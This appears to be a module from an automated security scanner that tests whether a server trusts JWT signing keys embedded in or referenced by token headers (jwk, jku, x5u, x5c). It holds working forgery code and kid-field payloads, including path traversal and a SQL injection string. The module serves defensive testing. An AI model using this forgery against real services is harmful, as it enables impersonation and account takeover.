"""Tokens that contain or name the key to verify them with."""

import base64
import json

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding

from ..attack import Attack
from ..attacker import Attacker
from ..certificate import self_signed
from ..forge import encode, header_of, segment, sign_es256
from ..lure import lure
from ..target import Login, Target
from ..verdict import Verdict, held, succeeded


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    target.require_tokens()
    login = target.log_in()
    key = ec.generate_private_key(ec.SECP256R1())
    kid = header_of(login.credential).get("kid")
    published = json.dumps({"keys": [_jwk(key) | {"kid": kid, "use": "sig", "alg": "ES256"}]})
    with lure(published.encode()) as (origin, asked):
        return _tried(target, login, key, f"{origin}/jwks.json", asked)


def _tried(
    target: Target, login: Login, key: ec.EllipticCurvePrivateKey, place: str, asked: list[str]
) -> Verdict:
    header, payload = header_of(login.credential), login.credential.split(".")[1]
    chain = base64.b64encode(self_signed(key, "localhost").public_bytes(Encoding.DER)).decode()
    tricks: tuple[dict[str, object], ...] = (
        {"jwk": _jwk(key)},
        {"jku": place},
        {"x5u": place},
        {"x5c": [chain]},
        {},
    )
    for trick in tricks:
        for kid in (header.get("kid"), "../../dev/null", "' or 1=1 --", place, None):
            head = segment(header | {"alg": "ES256", "kid": kid} | trick)
            message = f"{head}.{payload}"
            if target.me(login, f"{message}.{sign_es256(key, message)}").accepted:
                shown = ", ".join({"kid": kid} | trick)
                return succeeded(f"A token was accepted with a foreign key and {shown}.")
            if asked:
                return succeeded("The server fetched the address that the header of a token named.")
    return held("No key that a token contained or named was trusted, and none was fetched.")


def _jwk(key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
    numbers = key.public_key().public_numbers()
    x, y = (encode(each.to_bytes(32, "big")) for each in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}


ATTACK = Attack(
    id="forged-key",
    title="Tokens that bring their own key",
    story="An attacker signs a token with a key of their own and puts the key, or its URL, into"
    " the header. A server that takes the key from there verifies the token with it. The"
    " attacker is whoever the token names.",
    references=("RFC 8725 section 3.10", "CWE-347", "ASVS V9.1.3"),
    defences=("signatures of tokens are verified",),
    run=_run,
)
